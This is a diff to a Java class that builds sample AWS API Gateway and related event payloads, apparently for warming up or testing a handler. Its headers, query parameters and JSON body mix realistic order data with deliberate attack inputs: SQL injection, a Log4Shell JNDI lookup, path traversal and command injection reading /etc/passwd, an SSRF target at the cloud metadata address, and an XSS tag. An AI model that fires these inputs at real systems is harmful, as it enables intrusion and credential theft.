@@ -25,9 +25,13 @@ final class PrimingEvents {
 
   private PrimingEvents() {}
 
-  static final String JSON_BODY = "{\"order\":{\"id\":\"ord-1\",\"note\":\"leave at the door\",\"items\":"
-      + "[{\"sku\":\"A-1\",\"qty\":2},{\"sku\":\"B-2\",\"name\":\"x' OR '1'='1\"}]},"
-      + "\"redirect\":\"http://169.254.169.254/latest/meta-data/\",\"bio\":\"<img src=x onerror=alert(1)>\"}";
+  static final String JSON_BODY = "{\"order\":{\"id\":\"ord-10042\",\"customer\":\"c-7731\",\"email\":\"ada@example.com\","
+      + "\"note\":\"Please leave the parcel at the back door (ring twice); thanks!\",\"created\":\"2024-11-05T10:42:00Z\","
+      + "\"items\":[{\"sku\":\"SKU-10001\",\"name\":\"Trail runner 42\",\"qty\":2,\"price\":89.99,"
+      + "\"description\":\"Lightweight, breathable; recycled polyester upper (65%), rubber outsole.\"},"
+      + "{\"sku\":\"B-2\",\"name\":\"x' OR '1'='1\",\"tags\":[\"sale\",\"new\"]}]},"
+      + "\"redirect\":\"http://169.254.169.254/latest/meta-data/\",\"bio\":\"<img src=x onerror=alert(1)>\","
+      + "\"website\":\"https://shop.example.com/cart?step=2&ref=mail\",\"version\":\"1.4.2\"}";
 
   /**
    * REST API, HTTP API, ALB, SQS, SNS, Kinesis and EventBridge events, plus a generic map. The
@@ -47,19 +51,32 @@ final class PrimingEvents {
     return out;
   }
 
+  /** What browsers and API clients send, plus one attack in the user agent and one in a cookie. */
   private static Map<String, String> headers() {
     Map<String, String> h = new LinkedHashMap<>();
     h.put("content-type", "application/json");
-    h.put("user-agent", "Mozilla/5.0 (X11; Linux x86_64) ${jndi:ldap://x.example/a}");
     h.put("accept", "application/json, text/plain, */*");
-    h.put("cookie", "session=5f2c9a1e; path=..%2f..%2fetc%2fpasswd");
-    h.put("x-forwarded-for", "203.0.113.7");
+    h.put("accept-language", "en-GB,en;q=0.9,de;q=0.8");
+    h.put("authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJjLTc3MzEifQ.c2lnbmF0dXJl");
+    h.put("origin", "https://shop.example.com");
+    h.put("referer", "https://shop.example.com/cart?step=2");
+    h.put("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0"
+        + " ${jndi:ldap://x.example/a}");
+    h.put("cookie", "session=5f2c9a1e77b04d2a; theme=dark; path=..%2f..%2fetc%2fpasswd");
+    h.put("x-forwarded-for", "203.0.113.7, 198.51.100.2");
+    h.put("x-request-id", "b7e3c1d2-9f4a-4e1b-8c2d-1a2b3c4d5e6f");
     return h;
   }
 
+  /** Words, ids, numbers, dates and a few attacks. */
   private static Map<String, String> query() {
     Map<String, String> q = new LinkedHashMap<>();
-    q.put("q", "blue shoes");
+    q.put("q", "blue running shoes");
+    q.put("sort", "price:asc");
+    q.put("page", "2");
+    q.put("from", "2024-11-05");
+    q.put("currency", "EUR");
+    q.put("utm_source", "newsletter");
     q.put("id", "1 UNION SELECT password FROM users--");
     q.put("file", "../../../etc/passwd");
     q.put("cmd", "; cat /etc/passwd");
@@ -70,7 +87,7 @@ final class PrimingEvents {
     return new APIGatewayProxyRequestEvent()
         .withHttpMethod("POST")
         .withPath("/orders/1")
-        .withPathParameters(Map.of("id", "ord-1"))
+        .withPathParameters(Map.of("customer", "c-7731", "id", "ord-10042"))
         .withQueryStringParameters(query())
         .withHeaders(headers())
         .withBody(JSON_BODY)
